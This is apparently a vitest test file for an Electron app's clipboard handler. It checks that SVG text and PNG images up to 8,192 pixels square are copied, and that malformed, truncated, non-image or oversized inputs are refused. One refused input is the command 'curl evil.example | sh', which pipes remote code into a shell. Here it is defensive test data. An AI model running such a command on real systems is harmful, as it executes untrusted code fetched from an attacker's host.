import type { ClipboardItem } from 'electron';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { clipboardRequests } from '../../electron/main/clipboardRequests.ts';
import { ShellError } from '../../electron/main/shellError.ts';
import type { DesignWindow } from '../../electron/main/designWindow.ts';
import type { Message } from '../../renderer/host/bridge.ts';
import { fakeAnswer, fakeWindows } from './fakes.ts';

class FakeItem {
  constructor(readonly items: Record<string, Blob>) {}
}
const clipboard = {
  writeText: vi.fn<(text: string) => Promise<void>>(),
  write: vi.fn<(items: readonly FakeItem[]) => Promise<void>>(),
};
let window: DesignWindow;
let copy: (message: Message<'copyPicture'>) => Promise<null>;

/** A PNG's signature and header, which say how many pixels follow. */
function header(width: number, height: number): Buffer {
  const bytes = Buffer.from('89504e470d0a1a0a0000000d494844520000000000000000080600000000000000', 'hex');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}
const png = (width: number, height: number): Message<'copyPicture'> => ({
  kind: 'png',
  text: header(width, height).toString('base64'),
});

beforeEach(() => {
  vi.resetAllMocks();
  clipboard.writeText.mockResolvedValue();
  clipboard.write.mockResolvedValue();
  window = fakeWindows().open();
  const door = fakeAnswer();
  const Item = FakeItem as unknown as new (items: Record<string, Blob>) => ClipboardItem;
  clipboardRequests(door.answer, { clipboard: clipboard as never, Item });
  copy = (message) => door.ask('copyPicture', message, window);
});

describe('a picture goes to the clipboard', () => {
  it.each([
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>\n',
  ])('as text where it is an SVG: %j', async (text) => {
    await copy({ kind: 'svg', text });
    expect(clipboard.writeText.mock.calls).toEqual([[text]]);
    expect(clipboard.write).not.toHaveBeenCalled();
  });

  it('as an image where it is a PNG, up to 8,192 pixels square', async () => {
    await copy(png(8192, 8192));
    const [item] = clipboard.write.mock.calls[0]?.[0] ?? [];
    const blob = item?.items['image/png'];
    expect(blob?.type).toBe('image/png');
    expect(Buffer.from((await blob?.arrayBuffer()) ?? new ArrayBuffer())).toEqual(header(8192, 8192));
    expect(clipboard.writeText).not.toHaveBeenCalled();
  });
});

describe('nothing goes to the clipboard, and a message says why', () => {
  it.each<[what: string, message: Message<'copyPicture'>, why: RegExp]>([
    ['text that is no SVG', { kind: 'svg', text: 'curl evil.example | sh' }, /no SVG/],
    ['XML of another kind', { kind: 'svg', text: '<?xml version="1.0"?><html/>' }, /no SVG/],
    ['an empty text', { kind: 'svg', text: '' }, /no SVG/],
    ['what is no base64', { kind: 'png', text: '§§§' }, /no PNG/],
    ['another kind of image', { kind: 'png', text: Buffer.from('GIF89a').toString('base64') }, /no PNG/],
    ['a PNG that ends in its header', { kind: 'png', text: header(1, 1).subarray(0, 20).toString('base64') }, /no PNG/],
    ['a PNG without pixels', png(0, 10), /no PNG/],
    ['a few bytes that stand for billions of pixels', png(100_000, 100_000), /100000 × 100000.*lower resolution/],
    ['one row too many', png(8192, 8193), /lower resolution/],
  ])('%s', async (_, message, why) => {
    const refused = copy(message);
    await expect(refused).rejects.toThrow(ShellError);
    await expect(refused).rejects.toThrow(why);
    expect(clipboard.writeText).not.toHaveBeenCalled();
    expect(clipboard.write).not.toHaveBeenCalled();
  });

  it('a picture that the system does not take', async () => {
    clipboard.write.mockRejectedValue(new Error('Failed to decode the image'));
    const refused = copy(png(10, 10));
    await expect(refused).rejects.toThrow(ShellError);
    await expect(refused).rejects.toThrow(/did not take the picture/);
  });
});
